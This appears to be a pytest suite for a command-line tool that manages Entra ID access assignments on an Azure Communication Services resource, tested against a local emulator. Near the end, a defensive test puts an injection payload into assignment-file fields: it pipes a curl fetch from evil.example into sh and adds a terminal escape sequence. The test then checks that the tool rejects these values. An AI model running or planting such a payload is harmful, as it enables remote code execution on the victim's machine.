"""Who has access to the ACS resource: listed and changed with its access key."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from infra.entra import assignments
from infra.entra.__main__ import main
from infra.entra.doctor import from_file
from infra.entra.session import NotDoneError
from local.acs.emulator import AcsEmulator
from local.serving.application import serve

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable

    Command = Callable[..., Awaitable[subprocess.CompletedProcess[str]]]

ROOT = Path(__file__).parents[3]
KEY = base64.b64encode(b"worthless").decode()
TENANT = "b19f4d08-6c27-4e35-9d7a-2f8e60c1a394"
GROUP = "27e5b8a0-d93c-4f61-8c57-b4016fa2d3e9"
USER = "5b90e7f4-28d1-4c63-a70f-9e4c1d8b2a56"
BROKER = "0fa5c3d7-b218-4e69-9c40-7d1e8b6f52a3"
APP = "68b2f0e9-3d5c-4a17-b94e-c1f07a8d6e25"


@pytest.fixture
async def acs() -> AsyncIterator[AcsEmulator]:
    """An ACS resource that nobody has access to."""
    acs = AcsEmulator(access_key=KEY)
    async with serve(acs.application()) as url:
        acs.url = url
        yield acs


@pytest.fixture
def command(acs: AcsEmulator) -> Command:
    """The command, in a shell with the connection string of the resource."""

    async def run(*words: str, key: str = KEY) -> subprocess.CompletedProcess[str]:
        text = f"endpoint={acs.url}/;accesskey={key}"
        return await asyncio.to_thread(
            subprocess.run,
            [sys.executable, "-m", "infra.entra", *words],
            cwd=ROOT,
            env={**os.environ, "ACS_CONNECTION_STRING": text},
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )

    return run


async def test_group(acs: AcsEmulator, command: Command) -> None:
    """A group gets access; the second time there is nothing to change; then it is taken away."""
    words = ("group", GROUP, "--tenant", TENANT, "--client-id", BROKER)
    first = await command("assign", *words)
    assert (0, "") == (first.returncode, first.stderr)
    assert {
        "objectId": GROUP,
        "tenantId": TENANT,
        "principalType": "group",
        "clientIds": [BROKER],
    } == acs.entra_assignments[GROUP]

    assert f"at {acs.url}: assign group" in first.stdout.lower()
    assert "Nothing to change" in (await command("assign", *words)).stdout
    assert GROUP in (await command("assignments")).stdout

    removed = await command("unassign", GROUP)
    assert 0 == removed.returncode
    assert {} == acs.entra_assignments
    again = (await command("unassign", GROUP)).stdout
    assert f"{GROUP} has no such access: there is nothing to take away. ({acs.url})\n" == again
    listed = (await command("assignments")).stdout
    assert f"Access to {acs.url}:\n\nNobody has access.\n" == listed


async def test_apps(acs: AcsEmulator, command: Command) -> None:
    """Apps are added to those that are there, and taken away one by one."""
    user = ("user", USER, "--tenant", TENANT)
    await command("assign", *user, "--client-id", APP)
    await command("assign", *user, "--broker", BROKER)
    assert sorted([APP, BROKER]) == acs.entra_assignments[USER]["clientIds"]

    await command("unassign", USER, "--client-id", APP)
    assert [BROKER] == acs.entra_assignments[USER]["clientIds"]
    listed = json.loads((await command("assignments", "--json")).stdout)
    assert [acs.entra_assignments[USER]] == listed


async def test_tenant(acs: AcsEmulator, command: Command) -> None:
    """A whole tenant is named by its id alone."""
    done = await command("assign", "tenant", "--tenant", TENANT, "--broker", BROKER)
    assert 0 == done.returncode
    assert "tenant" == acs.entra_assignments[TENANT]["principalType"]


async def test_dry_run(acs: AcsEmulator, command: Command) -> None:
    """The call is shown, and not sent."""
    words = ("user", USER, "--tenant", TENANT, "--client-id", APP, "--dry-run")
    shown = (await command("assign", *words)).stdout
    assert (
        f"PUT {acs.url}/access/entra/assignments/{USER}?api-version=2025-03-02-preview\n" in shown
    )
    assert {} == acs.entra_assignments


async def test_another_kind(acs: AcsEmulator, command: Command) -> None:
    """What has access as something else is not changed unnoticed."""
    await command("assign", "user", USER, "--tenant", TENANT, "--client-id", APP)
    done = await command("assign", "group", USER, "--tenant", TENANT, "--client-id", APP)
    assert 2 == done.returncode
    assert "already, but as user" in done.stderr
    assert "user" == acs.entra_assignments[USER]["principalType"]


async def test_wrong_key(command: Command) -> None:
    """A refusal says which role it takes, and no key."""
    other = base64.b64encode(b"another").decode()
    done = await command("assignments", key=other)
    assert 2 == done.returncode
    assert "401 Denied" in done.stderr
    assert "Communication and Email Service Owner" in done.stderr
    assert other not in done.stderr + done.stdout


async def test_nobody_reads(acs: AcsEmulator) -> None:
    """What was done is not called undone where the output is closed."""
    reader, writer = os.pipe()
    os.close(reader)
    text = f"endpoint={acs.url}/;accesskey={KEY}"
    words = ("assign", "group", GROUP, "--tenant", TENANT, "--client-id", BROKER)
    done = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "infra.entra", *words],
        cwd=ROOT,
        env={**os.environ, "ACS_CONNECTION_STRING": text},
        stdout=writer,
        stderr=subprocess.PIPE,
        text=True,
        check=False,
        timeout=60,
    )
    os.close(writer)
    assert GROUP in acs.entra_assignments
    assert "Nobody reads the output: what was sent before is done.\n" == done.stderr


async def test_two_resources(
    acs: AcsEmulator, command: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A connection string does not win over another resource that the command line names."""
    words = ("unassign", GROUP)
    done = await command(*words, "--acs-endpoint", "https://other.communication.azure.com")
    assert 2 == done.returncode
    assert acs.url in done.stderr
    assert "but the ACS resource is to be https://other.communication.azure.com" in done.stderr
    monkeypatch.setenv("ACS_ENDPOINT", "https://other.communication.azure.com")
    assert 2 == (await command(*words)).returncode


RIGHT = {"principalType": "group", "objectId": GROUP, "tenantId": TENANT, "clientIds": [BROKER]}
HOSTILE = "x; curl https://evil.example | sh \x1b[2K"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        pytest.param("principalType", HOSTILE, id="kind"),
        pytest.param("objectId", f"{GROUP}; sh", id="object"),
        pytest.param("tenantId", HOSTILE, id="tenant"),
        pytest.param("clientIds", [BROKER, HOSTILE], id="apps"),
    ],
)
def test_hostile_file(tmp_path: Path, name: str, value: object) -> None:
    """A file of another organisation has ids only; what else it has is not repeated."""
    file = tmp_path / "assignments.json"
    file.write_text(json.dumps([RIGHT]))
    assert assignments.read([RIGHT]) == from_file(file)
    file.write_text(json.dumps([RIGHT, RIGHT | {name: value}]))
    with pytest.raises(NotDoneError, match=f"entry 2: its {name}") as raised:
        from_file(file)
    assert "sh" not in str(raised.value).partition("prints: ")[2]


async def test_busy(acs: AcsEmulator, command: Command) -> None:
    """While the service is busy, the command waits and says so."""
    acs.faults.fail_next("entra_assignments", status=429, headers={"Retry-After": "1"})
    done = await command("assignments")
    assert 0 == done.returncode
    assert "429" in done.stderr
    assert "trying again in 1 s" in done.stderr


@pytest.mark.parametrize(
    ("words", "message"),
    [
        pytest.param("assign user --tenant T --client-id A", "needs an object id", id="no object"),
        pytest.param("assign tenant U --tenant T --client-id A", "only --tenant", id="too much"),
        pytest.param("assign user ada --tenant T", "ada is not a GUID", id="no GUID"),
        pytest.param("consent-url --tenant a/b", "neither a tenant id nor a domain", id="tenant"),
        pytest.param("setup --unique-name a'b", "other than letters", id="unique name"),
        pytest.param("doctor --authority-host https://x.example", "not an Entra host", id="host"),
        pytest.param("assignments --acs-endpoint http://x", "not", id="endpoint"),
    ],
)
def test_wrong_words(capsys: pytest.CaptureFixture[str], words: str, message: str) -> None:
    """Wrong words are refused before anything is asked."""
    ids = {"U": USER, "T": TENANT, "A": APP}
    try:
        code: object = main([ids.get(word, word) for word in words.split()])
    except SystemExit as exc:
        code = exc.code
    assert 2 == code
    assert message in capsys.readouterr().err
